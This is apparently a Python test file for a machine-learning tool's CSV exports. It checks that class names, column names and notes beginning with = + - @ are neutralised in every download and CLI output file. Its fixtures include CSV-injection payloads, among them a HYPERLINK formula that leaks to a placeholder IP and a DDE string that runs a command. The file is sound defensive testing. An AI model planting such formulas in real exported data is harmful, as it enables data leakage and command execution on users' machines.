"""Every CSV a person downloads or writes with `--out` goes through the one writer
(`core.safe_csv`), which neutralises cells a spreadsheet would run as formulas (OWASP's
CSV-injection advice) and leaves numbers as numbers. Class names, variant names and notes
that start with = + - @ are fed through each download path."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from conftest import ROOT, make_run, open_at_address
from core.safe_csv import FORMULA_START, csv_bytes, safe_cell

# A spreadsheet would run each of these: a link that leaks, a command (DDE), sums.
FORMULA_CLASSES = ['=HYPERLINK("http://203.0.113.9/?leak","click")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "@A1",
                   "-2+3"]
FORMULA_COLUMN = "=1+1 width"


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(data: bytes) -> list[list[str]]:
    """No cell of the CSV starts a formula; a plain number (-0.5) is a number, not one."""
    rows = _rows(data)
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(FORMULA_START), (rows[0], cell)
    return rows


def test_text_cells_are_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({"class": FORMULA_CLASSES, "delta": [-0.5, 1.0, -2.0, np.nan, 3.0],
                          "as text": ["-0.5", "1", "x", None, "\tTAB"], FORMULA_COLUMN: [1, -2, 3, 4, 5],
                          "flag": [True, False, True, False, True]})
    rows = _rows(csv_bytes(frame))
    assert rows[0] == ["class", "delta", "as text", "'" + FORMULA_COLUMN, "flag"]
    assert [r[0] for r in rows[1:]] == ["'" + c for c in FORMULA_CLASSES]
    assert [r[1] for r in rows[1:]] == ["-0.5", "1.0", "-2.0", "", "3.0"], "negative numbers stay numbers"
    assert [r[2] for r in rows[1:]] == ["'-0.5", "1", "x", "", "'\tTAB"], "numbers stored as text are text"
    assert [r[3] for r in rows[1:]] == ["1", "-2", "3", "4", "5"]
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)))
    np.testing.assert_array_equal(back["delta"].to_numpy(), frame["delta"].to_numpy())
    assert safe_cell(-3) == -3 and safe_cell("plain") == "plain" and safe_cell("@x") == "'@x"


# --- every download path uses the writer (read from the code) -------------------------------

SAMPLE_TABLE = ROOT / "assets" / "sample-table.csv"
WRITERS = {"csv_bytes", "reviews_csv", "to_csv", "prior_csv"}  # the writer, and methods that return it


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            yield node, func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")


def _sources():
    for folder in ("app", "pages", "core"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            yield path.relative_to(ROOT), ast.parse(path.read_text())


def test_every_csv_download_and_out_file_goes_through_the_one_writer():
    csv_buttons, problems = 0, []
    for path, tree in _sources():
        for node, name in _calls(tree):
            keywords = {k.arg: k.value for k in node.keywords}
            if name == "to_csv" and (node.args or node.keywords) and path != Path("core/safe_csv.py"):
                problems.append(f"{path}:{node.lineno} writes CSV with pandas directly")
            if name == "download_button":
                mime = keywords.get("mime")
                if isinstance(mime, ast.Constant) and mime.value == "text/csv":
                    csv_buttons += 1
                    data = keywords.get("data", node.args[1] if len(node.args) > 1 else None)
                    called = data.func.attr if isinstance(data, ast.Call) and isinstance(data.func, ast.Attribute) \
                        else getattr(getattr(data, "func", None), "id", None)
                    if called == "read_bytes" and ast.unparse(data) in ("SAMPLE_TABLE.read_bytes()",
                                                                   "forms.SAMPLE_TABLE.read_bytes()"):
                        _assert_no_formula(SAMPLE_TABLE.read_bytes())  # our own file, shipped as it is
                    elif called not in WRITERS:
                        problems.append(f"{path}:{node.lineno} offers a CSV not made by the writer")
            if name in ("write_bytes", "write_text") and path.parts[:2] == ("core", "cli"):
                arg = node.args[0] if node.args else None
                if isinstance(arg, ast.Call) and "csv" in ast.unparse(arg) and not ast.unparse(arg).endswith(
                        ("to_csv()", "prior_csv()")):
                    problems.append(f"{path}:{node.lineno} writes a CSV file not made by the writer")
        for node in ast.walk(tree):  # the methods named as writers return the writer's bytes
            if isinstance(node, ast.FunctionDef) and node.name in WRITERS - {"csv_bytes"}:
                if "csv_bytes" not in {n for _, n in _calls(node)}:
                    problems.append(f"{path}:{node.lineno} {node.name} does not use csv_bytes")
    assert not problems, problems
    assert csv_buttons >= 5, "per-class, sweep, predictions, class mix and reviews downloads are found"


# --- hostile names through each path ----------------------------------------------------------

@pytest.fixture(scope="module")
def formula_run(tmp_path_factory):
    """A finished run on an uploaded table whose class labels and one column name would be
    formulas in a spreadsheet."""
    from core.data import save_upload

    home = tmp_path_factory.mktemp("formula-home")
    rng = np.random.default_rng(3)
    y = rng.permutation(np.arange(150) % len(FORMULA_CLASSES))
    x = np.eye(len(FORMULA_CLASSES))[y] * 3 + rng.normal(scale=0.7, size=(150, len(FORMULA_CLASSES)))
    columns = [FORMULA_COLUMN, *[f"f{i}" for i in range(1, len(FORMULA_CLASSES))]]
    table = pd.DataFrame(x.round(3), columns=columns).assign(diagnosis=[FORMULA_CLASSES[c] for c in y])
    previous = os.environ.get("TAILSCOPE_HOME")
    os.environ["TAILSCOPE_HOME"] = str(home)
    try:
        source = save_upload(table.to_csv(index=False).encode(), "clinic.csv")
        run_id = make_run(home, {"name": "formula classes", "data": {"source": source, "label_column": "diagnosis"},
                                 "model": {"name": "mlp", "hidden": 16},
                                 "train": {"epochs": 2, "batch_size": 32, "min_steps": 0, "nc_every": 0}},
                          embeddings=False)
    finally:
        if previous is None:
            os.environ.pop("TAILSCOPE_HOME", None)
        else:
            os.environ["TAILSCOPE_HOME"] = previous
    batch = table.drop(columns="diagnosis").iloc[:40].to_csv(index=False).encode()
    return {"home": home, "run": run_id, "batch": batch}


@pytest.fixture
def downloads(monkeypatch):
    """What every `st.download_button` of a page offers, by label (the bytes, or a callable's result)."""
    import streamlit

    offered: dict[str, bytes] = {}
    original = streamlit.download_button

    def record(label, data=None, *args, **kwargs):
        offered[label] = data() if callable(data) else data
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", record)
    return offered


def test_results_per_class_csv(formula_run, downloads, monkeypatch):
    monkeypatch.setenv("TAILSCOPE_HOME", str(formula_run["home"]))
    at = open_at_address("results", run=formula_run["run"])
    assert not at.exception, [e.value for e in at.exception]
    rows = _assert_no_formula(downloads["Per-class metrics (CSV)"])
    classes = [r[rows[0].index("class")] for r in rows[1:]]
    assert sorted(classes) == sorted("'" + c for c in FORMULA_CLASSES)


def test_triage_predictions_and_class_mix_csvs(formula_run, downloads, monkeypatch):
    import streamlit

    class Upload:
        name, size = "batch.csv", len(formula_run["batch"])

        def getvalue(self):
            return formula_run["batch"]

    original = streamlit.file_uploader
    monkeypatch.setattr(streamlit, "file_uploader", lambda label, *a, key=None, **kw: Upload()
                        if key == "triage.upload" else original(label, *a, key=key, **kw))
    monkeypatch.setenv("TAILSCOPE_HOME", str(formula_run["home"]))
    at = open_at_address("triage", run=formula_run["run"])
    assert not at.exception, [e.value for e in at.exception]
    predictions = _assert_no_formula(downloads["Predictions (CSV)"])
    predicted = {r[predictions[0].index("predicted")] for r in predictions[1:]}
    assert predicted and predicted <= {"'" + c for c in FORMULA_CLASSES}
    mix = _assert_no_formula(downloads["Estimated class mix (CSV)"])
    assert sorted(r[0] for r in mix[1:]) == sorted("'" + c for c in FORMULA_CLASSES)


def test_cli_predict_out(formula_run, tmp_path, monkeypatch):
    from core.cli import main

    monkeypatch.setenv("TAILSCOPE_HOME", str(formula_run["home"]))
    batch, out = tmp_path / "batch.csv", tmp_path / "out.csv"
    batch.write_bytes(formula_run["batch"])
    assert main(["predict", formula_run["run"], str(batch), "--out", str(out)]) == 0
    rows = _assert_no_formula(out.read_bytes())
    assert len(rows) == 41 and all(r[rows[0].index("predicted")].startswith("'") for r in rows[1:])


def test_reviews_csv_with_formula_class_names(formula_run):
    from core.analysis import read_reviews, reviews_csv, reviews_table, set_review
    from core.store import RunStore

    store = RunStore(formula_run["home"])
    art = store.artifacts(formula_run["run"])
    set_review(store, formula_run["run"], int(art.test_index[0]), "ambiguous", "@see -1 =2")
    table = reviews_table(read_reviews(store, formula_run["run"]), art, FORMULA_CLASSES)
    rows = _assert_no_formula(reviews_csv(table))
    assert rows[0][:3] == ["test_row", "case", "true"] and rows[1][1] == art.case_name(0)
    assert rows[1][2] == "'" + FORMULA_CLASSES[int(art.labels[0])] and rows[1][6] == "'@see -1 =2"


def test_sweep_csv_with_formula_variant_names(tmp_path, downloads, monkeypatch):
    from core.jobs import load_sweep, start_sweep
    from core.store import RunStore

    monkeypatch.setenv("TAILSCOPE_HOME", str(tmp_path))
    raw = {"name": "=HYPERLINK(\"http://203.0.113.9\")", "data": {"source": "wine"},
           "model": {"name": "mlp", "hidden": 16}, "train": {"epochs": 2, "min_steps": 0},
           "grid": {"method": {FORMULA_CLASSES[0]: {}, FORMULA_CLASSES[2]: {"loss.name": "weighted_ce"}},
                    "data.imbalance.ratio": [3, 8]}}
    start_sweep(RunStore(tmp_path), load_sweep(json.loads(json.dumps(raw))))
    at = open_at_address("sweeps")
    assert not at.exception, [e.value for e in at.exception]
    rows = _assert_no_formula(downloads["All squares, every measure (CSV)"])
    assert {r[rows[0].index("method")] for r in rows[1:]} == {"'" + FORMULA_CLASSES[0], "'" + FORMULA_CLASSES[2]}
